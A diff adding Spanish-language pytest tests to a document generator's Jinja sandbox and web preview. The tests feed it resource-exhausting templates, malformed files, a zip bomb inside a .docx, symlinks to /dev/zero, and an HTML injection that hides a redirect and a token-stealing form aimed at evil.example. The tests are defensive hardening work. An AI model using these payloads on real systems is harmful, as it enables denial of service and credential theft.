@@ -369,3 +369,143 @@ def test_diseno_de_word_del_proyecto_genera_igual(cli, tmp_path):
     assert codigo in (0, 1), errores
     with zipfile.ZipFile(io.BytesIO(salida.read_bytes())) as paquete:
         assert "OSCAR SÁNCHEZ DELGADO" in paquete.read("word/document.xml").decode("utf-8")
+
+
+# --- lo que encontró el segundo ataque (un ayudante, sobre el entorno aislado ya hecho) -----
+
+@pytest.mark.parametrize("plantilla, dice", [
+    # una tupla de 200 000 niveles: al compararla (unique) se rompía la pila de C
+    ("{% set ns = namespace(x=()) %}{% for i in range(200000) %}{% set ns.x = (ns.x,) %}{% endfor %}"
+     "{{ [ns.x] | unique | list | length }}", "anidadas"),
+    ("{{ cycler() }}", "p.html.j2"),
+    ("{{ 'nan' | moneda }}", "p.html.j2"),
+    ("{{ '\\ud800' }}", "sustituto"),
+    ("{{ " + "[" * 300 + "]" * 300 + " }}", "anida"),
+    ("{{ ['a' * 5000000] * 300 }}", "demasiadas veces"),
+    ("{% set l = ['a' * 4000000] %}{{ l ~ l }}", "caracteres"),
+    ("{{ ('a' * 1500000) | join('b' * 1000) }}", "join"),
+    ("{{ ('%s' * 300) % (('a' * 5000000,) * 300) }}", "demasiadas veces"),
+    ("{% set t = ('a' * 3000000, 'b' * 3000000) %}{{ '%s%s' % t }}", "caracteres"),
+    ("{{ '%(a)1500000000d' % {'a': 1} }}", "ancho"),
+    ("{{ '%(a)1500000000d' | format(a=1) }}", "ancho"),
+    ("{{ [[1]] | tojson(indent=500000000) }}", "tojson"),
+    ("{{ ('\\n' * 1500000) | indent(1000, true, true) }}", "indent"),
+    ("{{ ('a' * 5000000) | wordwrap(1) | length }}", "wordwrap"),
+    ("{{ ([[0] * 1000] * 150000) | sum(start=[]) | length }}", "demasiadas veces"),
+    ("{{ [[0] * 1000] | sum(start=[]) | length }}", "sum"),
+    ("{{ ('a ' * 2000000) | urlize | length }}", "urlize"),
+])
+def test_segundo_ataque_limites(tmp_path, plantilla, dice):
+    (tmp_path / "p.html.j2").write_text(plantilla, "utf-8")
+    inicio = time.monotonic()
+    with pytest.raises(ErrorDeUsuario) as info:
+        renderizar(crear_entorno([tmp_path]), "p.html.j2", {})
+    assert time.monotonic() - inicio < 8
+    assert dice in str(info.value), str(info.value)
+
+
+def test_tupla_honda_no_rompe_el_proceso_desde_el_cli(tmp_path):
+    """En un proceso aparte: antes moría con la señal 11 (sin mensaje, sin código 2)."""
+    import subprocess
+    import sys
+
+    plantillas, perfil = _plantillas_sre(tmp_path)
+    (perfil / "textos" / "reserva").mkdir(parents=True)
+    (perfil / "textos" / "reserva" / "cuerpo.html.j2").write_text(
+        "<p>{% set ns = namespace(x=()) %}{% for i in range(200000) %}{% set ns.x = (ns.x,) %}{% endfor %}"
+        "{{ [ns.x] | unique | list | length }}</p>", "utf-8")
+    proceso = subprocess.run([sys.executable, "-m", "generador", "generar", str(MUESTRA), "--plantillas",
+                              str(plantillas), "-o", str(tmp_path / "r.docx")], capture_output=True, text=True,
+                             timeout=120)
+    assert proceso.returncode == 2, proceso.stderr
+    assert "Traceback" not in proceso.stderr and "anidadas" in proceso.stderr
+
+
+def test_un_presupuesto_para_todo_el_documento(cli, tmp_path):
+    """Cuerpo y diseño de Word comparten las vueltas (y el tiempo): antes cada render tenía
+    las suyas, y cada cláusula o parte de Word sumaba otros 10 s."""
+    plantillas, perfil = _plantillas_sre(tmp_path)
+    original = (RAIZ / "plantillas" / "textos" / "reserva" / "cuerpo.html.j2").read_text("utf-8")
+    (perfil / "textos" / "reserva").mkdir(parents=True)
+    (perfil / "textos" / "reserva" / "cuerpo.html.j2").write_text(
+        "{% for i in range(150000) %}{% endfor %}" + original, "utf-8")
+    _diseno_con("{% for i in range(150000) %}{% endfor %}{{ oficio }}", perfil / "resolucion.docx")
+    salida = tmp_path / "r.docx"
+    codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(plantillas), "-o", str(salida))
+    assert codigo == 2 and "vueltas" in errores and not salida.exists()
+
+
+@pytest.mark.parametrize("prepara, dice", [
+    (lambda d: (d / "a.j2").write_bytes(b"\xff\xfe"), "UTF-8"),
+    (lambda d: (d / "b.j2").mkdir(), "no es un archivo normal"),
+    (lambda d: os.mkfifo(d / "c.j2"), "no es un archivo normal"),
+    (lambda d: (d / "d.j2").symlink_to("/dev/zero"), "apunta fuera"),
+    (lambda d: os.truncate((d / "e.j2").open("wb").name, 3 * 2**30), "pesa más"),
+])
+def test_plantillas_validar_con_archivos_raros(cli, tmp_path, prepara, dice):
+    carpeta = tmp_path / "plantillas" / "textos"
+    carpeta.mkdir(parents=True)
+    prepara(carpeta)
+    inicio = time.monotonic()
+    codigo, salida, errores = cli("plantillas", "validar", str(tmp_path / "plantillas"))
+    assert time.monotonic() - inicio < 20
+    assert codigo == 2 and "Traceback" not in errores and dice in salida, salida + errores
+
+
+def test_diseno_de_word_que_es_una_bomba_zip(cli, tmp_path):
+    plantillas, perfil = _plantillas_sre(tmp_path)
+    with zipfile.ZipFile(RAIZ / "plantillas" / "word" / "resolucion.docx") as original, \
+            zipfile.ZipFile(perfil / "resolucion.docx", "w", zipfile.ZIP_DEFLATED) as nuevo:
+        for nombre in original.namelist():
+            datos = original.read(nombre)
+            if nombre == "word/document.xml":
+                datos = datos.replace(b"</w:document>", b" " * (60 * 2**20) + b"</w:document>")
+            nuevo.writestr(nombre, datos)
+    salida = tmp_path / "r.docx"
+    codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(plantillas), "-o", str(salida))
+    assert codigo == 2 and "demasiados datos" in errores and not salida.exists()
+    codigo, texto, _ = cli("plantillas", "validar", str(plantillas))
+    assert codigo == 2 and "demasiados datos" in texto
+
+
+def test_perfil_que_es_un_enlace_fuera_de_su_carpeta(cli, tmp_path):
+    plantillas, perfil = _plantillas_sre(tmp_path)
+    ajeno = tmp_path / "ajeno.yaml"
+    shutil.move(perfil / "perfil.yaml", ajeno)
+    (perfil / "perfil.yaml").symlink_to(ajeno)
+    codigo, _, errores = cli("generar", str(MUESTRA), "--plantillas", str(plantillas), "-o", str(tmp_path / "r.docx"))
+    assert codigo == 2 and "sale de su carpeta" in errores
+
+
+def test_catalogo_con_un_enlace_a_dev_zero(cli, tmp_path):
+    catalogo = tmp_path / "catalogo"
+    catalogo.mkdir()
+    (catalogo / "cero.yaml").symlink_to("/dev/zero")
+    inicio = time.monotonic()
+    codigo, salida, errores = cli("catalogo", "validar", str(catalogo))
+    assert time.monotonic() - inicio < 20
+    assert codigo == 2 and "Traceback" not in errores and "sale de su carpeta" in salida + errores
+
+
+def test_vista_previa_no_deja_pasar_html_de_la_plantilla(tmp_path):
+    """Un comentario «<!-->» que Python lee como comentario y un navegador no: escondía un
+    meta refresh y un formulario hacia otro sitio."""
+    from generador.web import crear_app
+
+    plantillas, perfil = _plantillas_sre(tmp_path)
+    (perfil / "textos" / "reserva").mkdir(parents=True)
+    (perfil / "textos" / "reserva" / "cuerpo.html.j2").write_text(
+        '<p>x</p><!--><meta http-equiv="refresh" content="0;url=https://evil.example/">'
+        '<form action="https://evil.example/robar" method="post"><input name="token"></form>--><p>y &amp; z</p>',
+        "utf-8")
+    casos = tmp_path / "casos"
+    casos.mkdir()
+    shutil.copy(MUESTRA, casos / "cta-40418.yaml")
+    app = crear_app(casos, plantillas=[plantillas])
+    app.config["TESTING"] = True
+    respuesta = app.test_client().get("/caso/cta-40418.yaml/vista")
+    pagina = respuesta.get_data(as_text=True)
+    assert respuesta.status_code == 200
+    assert "evil.example" not in pagina and "<meta http-equiv" not in pagina and "<form action=\"https" not in pagina
+    assert "<p>x</p>" in pagina and "y &amp; z" in pagina
+    assert "form-action 'self'" in respuesta.headers["Content-Security-Policy"]
